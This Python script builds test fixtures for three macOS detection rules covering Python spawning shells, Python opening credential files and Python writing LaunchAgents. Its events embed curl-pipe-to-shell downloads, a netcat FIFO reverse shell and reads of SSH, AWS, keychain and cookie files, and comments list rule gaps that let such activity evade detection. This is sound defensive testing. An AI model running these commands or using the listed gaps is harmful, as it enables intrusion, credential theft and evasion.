#!/usr/bin/python3
"""Writes emulations/<rule-stem>/{positive,negative,baseline,reappear}.ndjson and manifest.json.

Contract
--------
* Deterministic: running it twice produces byte-identical files (no clock, no unseeded randomness).
* Each event is added with `alert=True/False`, the author's statement of whether picket must alert on it;
  the manifest's `terms` are read off the alerting events' own new-terms fields, in file order.
* Afterwards every case is re-derived by the independent oracle (reference_eval.py); the script fails if
  the declared expectation and the oracle disagree, so a fixture can't silently say the wrong thing.
* `labels.fixture` on each document is a short human note explaining why the event is there; no rule
  reads `labels`.

Usage: /usr/bin/python3 emulations/build_fixtures.py
"""

from __future__ import annotations

import json
import pathlib
import sys

HERE = pathlib.Path(__file__).resolve().parent
sys.path.insert(0, str(HERE))
import reference_eval  # noqa: E402
from fixture_world import (ALICE, BOB, CAROL, DAY, HOUR, LINUX, PY_APPLE, PY_BREW, PY_FW_311,  # noqa: E402
                           PY_FW_APP, PY_ORG_312, SIG_UNSIGNED, T0, WEEK, WINDOWS, child, py_conda,
                           py_venv, python, sig_adhoc, sig_apple, sig_windows)
from telemetry_model import Defend, Proc, get_path, iso_ms, iso_s  # noqa: E402

ROOT = HERE.parent
DELAY = 2.0  # seconds between the sensor's @timestamp and ingest, typical for Fleet


get = get_path  # the value at a dotted field, or None


class Case:
    def __init__(self, name: str, description: str, baseline: "Case | None" = None):
        self.name, self.description, self.baseline = name, description, baseline
        self.docs: list[dict] = []
        self.alerting: list[dict] = []

    def add(self, doc: dict, alert: bool, why: str) -> dict:
        doc["labels"] = {"fixture": why}
        self.docs.append(doc)
        if alert:
            self.alerting.append(doc)
        return doc

    def sorted_docs(self) -> list[dict]:
        # Engine evaluates in file order; keep file order == effective-time order (stable for ties).
        def eff(d):
            return reference_eval.event_time(d)
        return sorted(self.docs, key=eff)


class RuleFixtures:
    def __init__(self, stem: str):
        self.stem = stem
        self.rule_path = ROOT / "rules" / "macos" / (stem + ".toml")
        self.rule = reference_eval.load_rule(self.rule_path)
        self.cases: list[Case] = []
        self.d = Defend(stream_tag=stem)

    def case(self, name, description, baseline=None) -> Case:
        c = Case(name, description, baseline)
        self.cases.append(c)
        return c

    def write(self) -> list[str]:
        out = HERE / self.stem
        out.mkdir(exist_ok=True)
        manifest = {"rule": "rules/macos/%s.toml" % self.stem, "rule_id": self.rule["id"], "cases": []}
        for c in self.cases:
            docs = c.sorted_docs()
            fname = c.name + ".ndjson"
            (out / fname).write_text("".join(json.dumps(d, sort_keys=False, separators=(",", ":")) + "\n"
                                             for d in docs))
            if c.name == "baseline":
                continue
            alerting_ids = {id(d) for d in c.alerting}
            terms = [[get(d, f) for f in self.rule["fields"]] for d in docs if id(d) in alerting_ids]
            manifest["cases"].append({
                "name": c.name, "events": fname,
                "baseline": (c.baseline.name + ".ndjson") if c.baseline else None,
                "expect": {"alerts": len(terms), "terms": terms},
                "description": c.description})
        (out / "manifest.json").write_text(format_manifest(manifest))
        return reference_eval.check_cases(self.rule_path, out, manifest["cases"])


def format_manifest(m: dict) -> str:
    """Stable, diff-friendly layout: one case per block, one expected term tuple per line."""
    j = json.dumps
    lines = ["{", ' "rule": %s, "rule_id": %s,' % (j(m["rule"]), j(m["rule_id"])), ' "cases": [']
    for i, c in enumerate(m["cases"]):
        terms = ",\n".join("    " + j(t) for t in c["expect"]["terms"])
        lines.append('  {"name": %s, "events": %s, "baseline": %s,' % (j(c["name"]), j(c["events"]), j(c["baseline"])))
        lines.append('   "expect": {"alerts": %d, "terms": [%s]},' % (
            c["expect"]["alerts"], ("\n" + terms + "\n   ") if terms else ""))
        lines.append('   "description": %s}%s' % (j(c["description"]), "," if i + 1 < len(m["cases"]) else ""))
    lines += [" ]", "}"]
    text = "\n".join(lines) + "\n"
    assert json.loads(text) == m
    return text


def at(t: float, delay: float = DELAY):
    """(@timestamp, event.ingested) for an event observed at t."""
    return t, t + delay


# ==================================================================================================
# Rule 1: First Time Python Spawned a Shell on Host — terms [host.id, process.parent.executable]
# ==================================================================================================

def shell_spawn(d: Defend, host, interp, script, shell, shell_args, t, ingested="auto", cwd=None,
                action="exec") -> dict:
    py = python(host, interp, script, t - 20, cwd=cwd)
    sh = child(py, shell, shell_args, t)
    ing = t + DELAY if ingested == "auto" else ingested
    return d.process(sh, t, ing, action=action)


def build_execution() -> RuleFixtures:
    rf = RuleFixtures("execution_python_shell_spawn_first_occurrence")
    d = rf.d
    pos = rf.case("positive", "Python interpreters on three macOS hosts start a shell with -c for the first time: "
                  "python.org, Homebrew, framework 3.11, conda and venv interpreters; -c not in second "
                  "position; one event without event.ingested (falls back to @timestamp); one shell whose "
                  "command_line is absent (the 'not command_line' clause passes on a missing field).")
    t = T0
    # Context: the interpreter's own exec is a process event that must not match (its parent is zsh).
    loader = python(ALICE, PY_ORG_312, ["load_model.py", "resnet50.pt"], t - 20)
    pos.add(d.process(loader, t - 20, t - 18), False, "context: python exec itself (parent zsh)")
    pos.add(d.process(child(loader, "/bin/sh", ["-c", "curl -fsSL http://203.0.113.50/s.sh | sh"], t), t, t + 2),
            True, "pickle payload: python.org python3.12 -> sh -c curl|sh")
    pos.add(shell_spawn(d, ALICE, PY_BREW, ["-c", "import torch; torch.load('ckpt.pt')"], "/bin/zsh",
                        ["-c", "id; whoami; sw_vers"], t + 300),
            True, "same host, different interpreter path (Homebrew) -> new combination")
    pos.add(shell_spawn(d, BOB, PY_FW_311, ["eval.py", "--model", "model.pkl"], "/bin/bash",
                        ["-c", "uname -a"], t + 600),
            True, "framework python3.11 (process.name python3.11) -> bash -c")
    pos.add(shell_spawn(d, BOB, py_conda(BOB), ["serve.py"], "/bin/sh", ["-c", "ls -la ~/.ssh"], t + 900),
            True, "conda interpreter: the conda exclusion applies to the shell's command line, not the parent")
    pos.add(shell_spawn(d, CAROL, PY_APPLE, ["nb_export.py"], "/bin/bash", ["--noprofile", "-c", "env"], t + 1200),
            True, "-c after another flag: process.args matches any element")
    doc = shell_spawn(d, CAROL, py_venv(CAROL), ["run.py"], "/bin/sh", ["-c", "hostname"], t + 1500, ingested=None)
    pos.add(doc, True, "no event.ingested: time falls back to @timestamp")
    doc = shell_spawn(d, CAROL, PY_BREW, ["agent.py"], "/bin/dash", ["-c", "echo ok"], t + 1800)
    del doc["process"]["command_line"]
    pos.add(doc, True, "process.command_line missing (non-Defend sensor): 'not command_line:(...)' is true")

    base = rf.case("baseline", "")
    neg = rf.case("negative", "Benign look-alikes and near misses; all must stay quiet. The baseline seeds two "
                  "earlier sightings (1-6 days before) so their repeats here are not new.", baseline=base)
    base.add(shell_spawn(d, ALICE, PY_ORG_312, ["build.py"], "/bin/sh", ["-c", "git rev-parse HEAD"], t - 6 * DAY),
             False, "baseline: alice's build script, 6 days earlier")
    base.add(shell_spawn(d, BOB, PY_FW_311, ["eval.py"], "/bin/bash", ["-c", "date"], t - 1 * DAY),
             False, "baseline: bob's framework python, 1 day earlier")
    neg.add(shell_spawn(d, ALICE, PY_ORG_312, ["build.py"], "/bin/sh", ["-c", "git status --short"], t),
            False, "same host + interpreter seen 6 days ago (within 7d)")
    neg.add(shell_spawn(d, BOB, PY_FW_311, ["eval.py"], "/bin/zsh", ["-c", "nproc"], t + 60),
            False, "same host + interpreter seen 1 day ago, different shell and command")
    neg.add(shell_spawn(d, ALICE, PY_BREW, ["-m", "pip", "install", "torch"], "/bin/sh",
                        ["-c", "/opt/homebrew/bin/python3 -m pip wheel --no-deps ."], t + 120),
            False, "pip build step: command line contains 'pip'")
    neg.add(shell_spawn(d, BOB, py_conda(BOB), ["-m", "conda", "run"], "/bin/bash",
                        ["-c", "source ~/miniconda3/bin/activate && conda env list"], t + 180),
            False, "conda: command line contains 'conda'")
    neg.add(shell_spawn(d, CAROL, PY_APPLE, ["update_tools.py"], "/bin/zsh", ["-c", "brew outdated --json"], t + 240),
            False, "Homebrew: command line contains 'brew'")
    neg.add(shell_spawn(d, CAROL, py_venv(CAROL), ["-m", "jupyterlab"], "/bin/zsh",
                        ["-c", "jupyter nbconvert --to html report.ipynb"], t + 300),
            False, "Jupyter: command line contains 'jupyter'")
    neg.add(shell_spawn(d, ALICE, PY_FW_311, ["loader.py"], "/bin/sh",
                        ["-c", "rm -f /tmp/pipe; mkfifo /tmp/pipe; nc 198.51.100.7 4444 < /tmp/pipe | /bin/sh > /tmp/pipe"],
                        t + 360),
            False, "KNOWN GAP: reverse shell through a FIFO named 'pipe' is excluded by *pip*")
    neg.add(shell_spawn(d, ALICE, PY_FW_APP, ["-c", "import pickle"], "/bin/sh", ["-c", "id"], t + 420),
            False, "KNOWN GAP: parent process.name 'Python' (capital P) does not match python*")
    neg.add(shell_spawn(d, BOB, PY_BREW, ["make.py"], "/bin/sh", ["scripts/build.sh"], t + 480),
            False, "shell runs a script file, no -c")
    neg.add(shell_spawn(d, BOB, PY_ORG_312, ["x.py"], "/bin/zsh", ["-lc", "id"], t + 540),
            False, "KNOWN GAP: combined flag -lc is not the exact argument -c")
    neg.add(shell_spawn(d, CAROL, PY_ORG_312, ["a.py"], "/bin/sh", ["-c", "id"], t + 600, action="fork"),
            False, "event.action fork, not exec")
    neg.add(shell_spawn(d, CAROL, PY_ORG_312, ["a.py"], "/bin/sh", ["-c", "id"], t + 610, action="end"),
            False, "event.action end (process exit)")
    doc = shell_spawn(d, CAROL, PY_FW_311, ["a.py"], "/bin/sh", ["-c", "id"], t + 660)
    del doc["process"]["parent"]["executable"]
    neg.add(doc, False, "new-terms field process.parent.executable missing -> no term, no alert")
    node = Proc(ALICE, 51234, "/opt/homebrew/bin/node", ["/opt/homebrew/bin/node", "server.js"], start=t,
                sig=sig_adhoc("node"), parent=None)
    neg.add(d.process(child(node, "/bin/sh", ["-c", "id"], t + 720), t + 720, t + 722),
            False, "parent is node, not python")
    lpy = Proc(LINUX, 7001, "/usr/bin/python3", ["/usr/bin/python3", "train.py"], start=t, cwd="/home/ubuntu",
               sig=None)
    neg.add(d.process(Proc(LINUX, 7002, "/usr/bin/sh", ["/usr/bin/sh", "-c", "nvidia-smi"], start=t + 780,
                           cwd="/home/ubuntu", parent=lpy), t + 780, t + 782),
            False, "Linux host (host.os.type linux)")
    wpy = Proc(WINDOWS, 8120, "C:\\Program Files\\Python312\\python.exe",
               ["C:\\Program Files\\Python312\\python.exe", "load.py"], start=t, sig=sig_windows("Python Software Foundation"))
    neg.add(d.process(Proc(WINDOWS, 8124, "C:\\Windows\\System32\\cmd.exe",
                           ["C:\\Windows\\System32\\cmd.exe", "/c", "whoami"], start=t + 840,
                           sig=sig_windows("Microsoft Windows"), parent=wpy), t + 840, t + 842, action="start"),
            False, "Windows: python.exe -> cmd.exe /c")
    hit = shell_spawn(d, CAROL, PY_BREW, ["evil.py"], "/bin/sh", ["-c", "curl http://203.0.113.9 | sh"], t + 900)
    neg.add(d.as_endpoint_alert(hit, "Suspicious Python Child Process"), False,
            "cross-index: Elastic Defend alert document (logs-endpoint.alerts-default) quoting a matching exec")
    rerouted = shell_spawn(d, ALICE, py_conda(ALICE), ["evil.py"], "/bin/sh", ["-c", "id"], t + 960)
    rerouted["data_stream"] = dict(rerouted["data_stream"], dataset="endpoint.events.file")
    neg.add(rerouted, False, "cross-index: matching exec body in the file data stream; rule reads process-* only")

    re_ = rf.case("reappear", "Window edges. A term seen exactly 7 days earlier is still seen (closed window); "
                  "after 7 days + 1 s it is new again. Windows are measured on event.ingested: one event is "
                  "inside the window by @timestamp but outside by ingest time and must alert. Events without "
                  "event.ingested use @timestamp.")
    re_.add(shell_spawn(d, ALICE, PY_ORG_312, ["job.py"], "/bin/sh", ["-c", "id"], t), True, "first sighting")
    re_.add(shell_spawn(d, ALICE, PY_ORG_312, ["job.py"], "/bin/sh", ["-c", "id"], t + WEEK), False,
            "exactly 7 days later (ingested): still within [t-7d, t]")
    re_.add(shell_spawn(d, ALICE, PY_ORG_312, ["job.py"], "/bin/sh", ["-c", "id"], t + 2 * WEEK + 1), True,
            "7 days + 1 s after the previous sighting: new again")
    re_.add(shell_spawn(d, BOB, PY_BREW, ["job.py"], "/bin/sh", ["-c", "id"], t + HOUR), True, "first sighting")
    re_.add(shell_spawn(d, BOB, PY_BREW, ["job.py"], "/bin/sh", ["-c", "id"], t + HOUR + WEEK + 1), True,
            "7 days + 1 s later: new again")
    re_.add(shell_spawn(d, CAROL, PY_FW_311, ["job.py"], "/bin/sh", ["-c", "id"], t + 2 * HOUR), True,
            "first sighting (ingested 2 s after @timestamp)")
    re_.add(shell_spawn(d, CAROL, PY_FW_311, ["job.py"], "/bin/sh", ["-c", "id"], t + 2 * HOUR + WEEK - 60,
                        ingested=t + 2 * HOUR + WEEK + 10), True,
            "@timestamp inside 7 d, event.ingested 7 d + 8 s after the previous ingest: new (timestamp_override)")
    re_.add(shell_spawn(d, CAROL, PY_APPLE, ["job.py"], "/bin/sh", ["-c", "id"], t + 3 * HOUR, ingested=None),
            True, "first sighting, no event.ingested")
    re_.add(shell_spawn(d, CAROL, PY_APPLE, ["job.py"], "/bin/sh", ["-c", "id"], t + 3 * HOUR + WEEK,
                        ingested=None), False, "exactly 7 days later by @timestamp (fallback): still seen")
    return rf


# ==================================================================================================
# Rules 2 and 3 share file-event helpers — terms [host.id, file.path]
# ==================================================================================================

def py_open(d: Defend, host, interp, script, path, t, ingested="auto", action="open", user=None) -> dict:
    py = python(host, interp, script, t - 5, user=user)
    ing = t + DELAY if ingested == "auto" else ingested
    return d.file(py, t, ing, action, path, size=419)


def build_credential() -> RuleFixtures:
    rf = RuleFixtures("credential_access_python_sensitive_file_access_first_occurrence")
    d = rf.d
    t = T0
    A, B, C = ALICE.home, BOB.home, CAROL.home
    pos = rf.case("positive", "Python opens sensitive credential files for the first time: SSH key, AWS "
                  "credentials and login keychain on one host (one alert per path), browser cookie stores "
                  "(paths with spaces), a Kerberos cache, and one event without event.ingested.")
    loader = python(ALICE, PY_ORG_312, ["load_model.py", "resnet50.pt"], t - 20)
    for i, p in enumerate([A + "/.ssh/id_rsa", A + "/.aws/credentials", A + "/Library/Keychains/login.keychain-db"]):
        pos.add(d.file(loader, t + i, t + i + 2, "open", p, size=2602), True,
                "one process, several secrets: one alert per new path")
    pos.add(py_open(d, BOB, PY_BREW, ["cookies.py"], B + "/Library/Application Support/Google/Chrome/Default/Cookies",
                    t + 300), True, "Chrome cookie store, path contains spaces")
    pos.add(py_open(d, BOB, PY_FW_311, ["x.py"],
                    B + "/Library/Application Support/Firefox/Profiles/k2x9w1.default-release/cookies.sqlite",
                    t + 360), True, "Firefox cookie store, framework python3.11")
    pos.add(py_open(d, CAROL, py_venv(CAROL), ["kinit_helper.py"], "/tmp/krb5cc_501", t + 600), True,
            "Kerberos ccache, venv interpreter (process.name python)")
    pos.add(py_open(d, CAROL, PY_APPLE, ["s.py"], C + "/.ssh/id_ed25519", t + 900, ingested=None), True,
            "no event.ingested: @timestamp fallback")

    base = rf.case("baseline", "")
    neg = rf.case("negative", "Benign look-alikes; all must stay quiet. The baseline holds earlier reads of the "
                  "same host+path (2 and 6.9 days before), so repeats are not new.", baseline=base)
    base.add(py_open(d, ALICE, PY_BREW, ["sync_s3.py"], A + "/.aws/credentials", t - 2 * DAY), False,
             "baseline: boto3 script reading AWS credentials 2 days earlier")
    base.add(py_open(d, BOB, PY_ORG_312, ["deploy.py"], B + "/.ssh/id_ed25519", t - WEEK + HOUR), False,
             "baseline: paramiko deploy 6 d 23 h earlier")
    neg.add(py_open(d, ALICE, PY_ORG_312, ["other.py"], A + "/.aws/credentials", t), False,
            "same host+path within 7 d; a different interpreter does not make it new")
    neg.add(py_open(d, BOB, PY_ORG_312, ["deploy.py"], B + "/.ssh/id_ed25519", t + 60), False,
            "same host+path 6 d 23 h after the baseline read")
    ssh = Proc(ALICE, 50100, "/usr/bin/ssh", ["/usr/bin/ssh", "git@github.com"], start=t, sig=sig_apple("ssh"))
    neg.add(d.file(ssh, t + 120, t + 122, "open", A + "/.ssh/id_rsa"), False, "ssh reads its key: not python")
    aws = Proc(BOB, 50200, "/usr/local/aws-cli/aws", ["/usr/local/aws-cli/aws", "s3", "ls"], start=t,
               sig=sig_adhoc("aws"))
    neg.add(d.file(aws, t + 180, t + 182, "open", B + "/.aws/credentials"), False,
            "AWS CLI v2 (embeds Python but process.name is aws)")
    neg.add(py_open(d, CAROL, PY_FW_APP, ["-c", "x"], C + "/Library/Keychains/login.keychain-db", t + 240), False,
            "KNOWN GAP: process.name 'Python' (capital P)")
    neg.add(py_open(d, ALICE, PY_ORG_312, ["setup.py"], A + "/.ssh/known_hosts", t + 300, action="creation"), False,
            "event.action creation, not open")
    neg.add(py_open(d, ALICE, PY_ORG_312, ["setup.py"], A + "/.aws/config", t + 360, action="modification"), False,
            "event.action modification, not open")
    doc = py_open(d, CAROL, PY_BREW, ["s.py"], C + "/.ssh/id_rsa", t + 420)
    del doc["file"]["path"]
    neg.add(doc, False, "new-terms field file.path missing -> no term")
    lpy = Proc(LINUX, 7101, "/usr/bin/python3", ["/usr/bin/python3", "sync.py"], start=t, cwd="/home/ubuntu")
    neg.add(d.file(lpy, t + 480, t + 482, "open", "/home/ubuntu/.aws/credentials"), False, "Linux host")
    wpy = Proc(WINDOWS, 8200, "C:\\Program Files\\Python312\\python.exe",
               ["C:\\Program Files\\Python312\\python.exe", "s.py"], start=t, sig=sig_windows("Python Software Foundation"))
    neg.add(d.file(wpy, t + 540, t + 542, "open", "C:\\Users\\dana\\.aws\\credentials"), False, "Windows host")
    hit = py_open(d, CAROL, PY_ORG_312, ["steal.py"], C + "/.aws/credentials", t + 600)
    neg.add(d.as_endpoint_alert(hit, "Credential Access via Python"), False,
            "cross-index: Defend alert document (logs-endpoint.alerts-default) quoting a matching open")
    rerouted = py_open(d, CAROL, PY_ORG_312, ["steal.py"], C + "/.ssh/id_rsa", t + 660)
    rerouted["data_stream"] = dict(rerouted["data_stream"], dataset="endpoint.events.process")
    neg.add(rerouted, False, "cross-index: matching open body in the process data stream; rule reads file-* only")
    stealer = python(CAROL, PY_ORG_312, ["steal.py", C + "/.ssh/id_rsa"], t + 700)
    neg.add(d.process(stealer, t + 700, t + 702), False,
            "process exec whose args name a credential file: process event, not a file open")

    re_ = rf.case("reappear", "Window edges on [host.id, file.path]: exactly 7 d later is still seen, 7 d + 1 s "
                  "is new; two reads within the same ingest second give one alert; a read inside the window by "
                  "@timestamp but outside by event.ingested alerts.")
    p1 = A + "/.ssh/id_rsa"
    re_.add(py_open(d, ALICE, PY_ORG_312, ["j.py"], p1, t), True, "first sighting")
    re_.add(py_open(d, ALICE, PY_ORG_312, ["j.py"], p1, t + WEEK), False, "exactly 7 d later: still seen")
    re_.add(py_open(d, ALICE, PY_ORG_312, ["j.py"], p1, t + 2 * WEEK + 1), True, "7 d + 1 s later: new again")
    p2 = B + "/.aws/credentials"
    re_.add(py_open(d, BOB, PY_BREW, ["j.py"], p2, t + HOUR + 0.100, ingested=t + HOUR + 2), True,
            "first sighting")
    re_.add(py_open(d, BOB, PY_BREW, ["j.py"], p2, t + HOUR + 0.700, ingested=t + HOUR + 2), False,
            "same term, same ingest second: one alert, not two")
    re_.add(py_open(d, BOB, PY_BREW, ["j.py"], p2, t + HOUR + WEEK + 1, ingested=t + HOUR + WEEK + 3), True,
            "7 d + 1 s later: new again")
    p3 = C + "/Library/Keychains/login.keychain-db"
    re_.add(py_open(d, CAROL, PY_FW_311, ["j.py"], p3, t + 2 * HOUR), True, "first sighting")
    re_.add(py_open(d, CAROL, PY_FW_311, ["j.py"], p3, t + 2 * HOUR + WEEK - 60, ingested=t + 2 * HOUR + WEEK + 10),
            True, "inside 7 d by @timestamp, outside by event.ingested: new")
    return rf


def py_plist(d: Defend, host, interp, script, plist, label, program, t, ingested="auto", user=None,
             with_file_path=True, runatload=True, keepalive=True) -> dict:
    py = python(host, interp, script, t - 5, user=user)
    ing = t + DELAY if ingested == "auto" else ingested
    return d.launch_daemon(py, t, ing, plist, label, program, runatload=runatload, keepalive=keepalive,
                           with_file_path=with_file_path)


def build_persistence() -> RuleFixtures:
    rf = RuleFixtures("persistence_python_launch_agent_or_daemon_creation_first_occurrence")
    d = rf.d
    t = T0
    A, B, C = ALICE.home, BOB.home, CAROL.home
    pos = rf.case("positive", "Python writes LaunchAgent/LaunchDaemon plists (Defend launch_daemon events with "
                  "Persistence.* and file.path): user agents, a root daemon, an Apple-lookalike label, and one "
                  "event without event.ingested.")
    pos.add(py_plist(d, ALICE, PY_ORG_312, ["load_model.py", "resnet50.pt"],
                     A + "/Library/LaunchAgents/com.apple.mlupdate.plist", "com.apple.mlupdate",
                     ["/bin/sh", "-c", "curl -fsSL http://203.0.113.50/a | sh"], t), True,
            "user LaunchAgent with an Apple-looking label, written by python.org python3.12")
    pos.add(py_plist(d, ALICE, PY_FW_311, ["install.py"], "/Library/LaunchDaemons/com.torchcache.helper.plist",
                     "com.torchcache.helper", ["/usr/local/libexec/torchcache"], t + 300, user="root"), True,
            "system LaunchDaemon written as root by framework python3.11")
    pos.add(py_plist(d, BOB, PY_BREW, ["x.py"], B + "/Library/LaunchAgents/com.google.keystone.agent.plist",
                     "com.google.keystone.agent", ["/usr/bin/python3", B + "/.cache/.k.py"], t + 600,
                     keepalive=False), True, "Homebrew python, agent re-running a hidden script")
    pos.add(py_plist(d, CAROL, py_venv(CAROL), ["setup_agent.py"], "/Library/LaunchAgents/io.evalkit.sync.plist",
                     "io.evalkit.sync", [C + "/src/llm-eval/.venv/bin/python", "-m", "evalkit.sync"], t + 900,
                     ingested=None, user="root"), True, "venv python, no event.ingested (@timestamp fallback)")

    base = rf.case("baseline", "")
    neg = rf.case("negative", "Benign look-alikes; all must stay quiet. The baseline holds one earlier write of "
                  "the same plist (1 day before).", baseline=base)
    base.add(py_plist(d, ALICE, PY_ORG_312, ["menubar_setup.py"], A + "/Library/LaunchAgents/com.example.menubar.plist",
                      "com.example.menubar", ["/Applications/MenuBar.app/Contents/MacOS/MenuBar"], t - DAY), False,
             "baseline: developer's own menubar agent, 1 day earlier")
    neg.add(py_plist(d, ALICE, PY_ORG_312, ["menubar_setup.py"], A + "/Library/LaunchAgents/com.example.menubar.plist",
                     "com.example.menubar", ["/Applications/MenuBar.app/Contents/MacOS/MenuBar"], t), False,
            "same host+plist rewritten within 7 d")
    ruby = Proc(BOB, 50300, "/opt/homebrew/Cellar/ruby/3.3.1/bin/ruby",
                ["/opt/homebrew/Cellar/ruby/3.3.1/bin/ruby", "/opt/homebrew/Library/Homebrew/brew.rb", "services",
                 "start", "postgresql@16"], start=t, sig=sig_adhoc("ruby"))
    neg.add(d.launch_daemon(ruby, t + 60, t + 62, B + "/Library/LaunchAgents/homebrew.mxcl.postgresql@16.plist",
                            "homebrew.mxcl.postgresql@16", ["/opt/homebrew/opt/postgresql@16/bin/postgres"]), False,
            "brew services (ruby) writes an agent: not python")
    pkg = Proc(CAROL, 50400, "/System/Library/PrivateFrameworks/PackageKit.framework/Versions/A/XPCServices/"
               "package_script_service.xpc/Contents/MacOS/package_script_service", start=t,
               sig=sig_apple("package_script_service"), user="root")
    neg.add(d.launch_daemon(pkg, t + 120, t + 122, "/Library/LaunchDaemons/us.zoom.ZoomDaemon.plist",
                            "us.zoom.ZoomDaemon", ["/Library/PrivilegedHelperTools/us.zoom.ZoomDaemon"]), False,
            "installer package script writes a daemon")
    neg.add(py_plist(d, CAROL, PY_FW_APP, ["-c", "x"], C + "/Library/LaunchAgents/com.x.plist", "com.x", ["/tmp/x"],
                     t + 180), False, "KNOWN GAP: process.name 'Python' (capital P)")
    doc = py_open(d, ALICE, PY_ORG_312, ["w.py"], A + "/Library/LaunchAgents/com.plain.write.plist", t + 240,
                  action="creation")
    neg.add(doc, False, "plain file creation event of a plist (event.action creation, not launch_daemon)")
    neg.add(py_plist(d, BOB, PY_ORG_312, ["w.py"], B + "/Library/LaunchAgents/com.nopath.plist", "com.nopath",
                     ["/tmp/np"], t + 300, with_file_path=False), False,
            "launch_daemon carrying only Persistence.path, no file.path -> no term")
    lpy = Proc(LINUX, 7201, "/usr/bin/python3", ["/usr/bin/python3", "install.py"], start=t, cwd="/root", user="root")
    neg.add(d.file(lpy, t + 360, t + 362, "creation", "/etc/systemd/system/trainer.service"), False,
            "Linux systemd unit written by python")
    wpy = Proc(WINDOWS, 8300, "C:\\Program Files\\Python312\\python.exe",
               ["C:\\Program Files\\Python312\\python.exe", "p.py"], start=t, sig=sig_windows("Python Software Foundation"))
    neg.add(d.file(wpy, t + 420, t + 422, "creation",
                   "C:\\Users\\dana\\AppData\\Roaming\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\u.lnk"),
            False, "Windows startup-folder shortcut written by python.exe")
    hit = py_plist(d, CAROL, PY_ORG_312, ["evil.py"], C + "/Library/LaunchAgents/com.evil.plist", "com.evil",
                   ["/tmp/e"], t + 480)
    neg.add(d.as_endpoint_alert(hit, "Persistence via Python LaunchAgent"), False,
            "cross-index: Defend alert document quoting a matching launch_daemon")
    rerouted = py_plist(d, CAROL, PY_BREW, ["evil.py"], C + "/Library/LaunchAgents/com.evil2.plist", "com.evil2",
                        ["/tmp/e2"], t + 540)
    rerouted["data_stream"] = dict(rerouted["data_stream"], dataset="endpoint.events.process")
    neg.add(rerouted, False, "cross-index: launch_daemon body in the process data stream; rule reads file-* only")

    re_ = rf.case("reappear", "Window edges on [host.id, file.path]: exactly 7 d later still seen; 7 d + 1 s new "
                  "again; inside by @timestamp but outside by event.ingested is new.")
    p1 = A + "/Library/LaunchAgents/com.nightly.retrain.plist"
    for dt, alert, why in ((0, True, "first sighting"), (WEEK, False, "exactly 7 d later: still seen"),
                           (2 * WEEK + 1, True, "7 d + 1 s later: new again")):
        re_.add(py_plist(d, ALICE, PY_ORG_312, ["retrain.py"], p1, "com.nightly.retrain", ["/usr/bin/true"], t + dt),
                alert, why)
    p2 = B + "/Library/LaunchAgents/com.sync.agent.plist"
    re_.add(py_plist(d, BOB, PY_BREW, ["s.py"], p2, "com.sync.agent", ["/usr/bin/true"], t + HOUR), True,
            "first sighting")
    re_.add(py_plist(d, BOB, PY_BREW, ["s.py"], p2, "com.sync.agent", ["/usr/bin/true"], t + HOUR + WEEK - 60,
                     ingested=t + HOUR + WEEK + 10), True, "inside 7 d by @timestamp, outside by event.ingested")
    return rf


def main() -> int:
    problems = []
    for build in (build_execution, build_credential, build_persistence):
        rf = build()
        problems += rf.write()
        for c in rf.cases:
            print("%-70s %-9s %3d events %2d alerts" % (rf.stem, c.name, len(c.docs), len(c.alerting)))
    for p in problems:
        print("ORACLE DISAGREES:", p)
    return 1 if problems else 0


if __name__ == "__main__":
    sys.exit(main())
